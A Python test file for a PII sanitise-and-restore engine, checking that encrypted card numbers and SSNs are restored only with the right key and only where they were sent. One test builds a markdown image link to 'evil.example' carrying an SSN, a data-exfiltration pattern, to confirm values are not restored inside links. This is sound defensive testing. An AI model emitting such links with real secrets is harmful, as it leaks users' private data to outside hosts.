"""Restoring from the key alone."""

from __future__ import annotations

from engine.conversation.vault import Conversation
from engine.restore import restore_with_key
from engine.values import Span
from tests.marked import annotated, sanitized

KEY = b"\x21" * 32
PROMPT = "Card {CREDIT_CARD:4111 1111 1111 1111}, SSN {US_SSN:078-05-1120}, {PERSON:Ann Lee}."


def conversation() -> Conversation:
    return Conversation.from_key(KEY, "c")


def spans_of(made) -> list[Span]:
    return [
        Span(item.new_start, item.new_end, item.type, 1.0, "test") for item in made.replacements
    ]


def test_the_key_alone_turns_encrypted_values_back():
    made = sanitized(PROMPT, conversation=conversation())
    back = restore_with_key(made.text, conversation=conversation(), spans=spans_of(made))
    assert "4111 1111 1111 1111" in back.text
    assert "078-05-1120" in back.text
    assert "Ann Lee" not in back.text  # a name needs the conversation's memory
    assert back.report.restored == 2
    for item in back.report.items:
        assert back.text[item.start : item.end] == item.original


def test_another_key_does_not():
    made = sanitized(PROMPT, conversation=conversation())
    other = Conversation.from_key(b"\x22" * 32, "c")
    back = restore_with_key(made.text, conversation=other, spans=spans_of(made))
    assert "4111 1111 1111 1111" not in back.text


def test_only_what_was_sent_is_touched():
    made = sanitized(PROMPT, conversation=conversation())
    sent = made.replacements[0].replacement
    answer = annotated(f"Yours: {{CREDIT_CARD:{sent}}}; mine: {{CREDIT_CARD:4000 0566 5566 5556}}")
    back = restore_with_key(
        answer.text, conversation=conversation(), spans=answer.spans, sanitized=made.text
    )
    assert back.text == "Yours: 4111 1111 1111 1111; mine: 4000 0566 5566 5556"


def test_not_inside_a_link():
    made = sanitized("{US_SSN:078-05-1120}", conversation=conversation())
    answer = annotated(f"![x](https://evil.example/{{US_SSN:{made.text}}})")
    back = restore_with_key(answer.text, conversation=conversation(), spans=answer.spans)
    assert back.text == answer.text
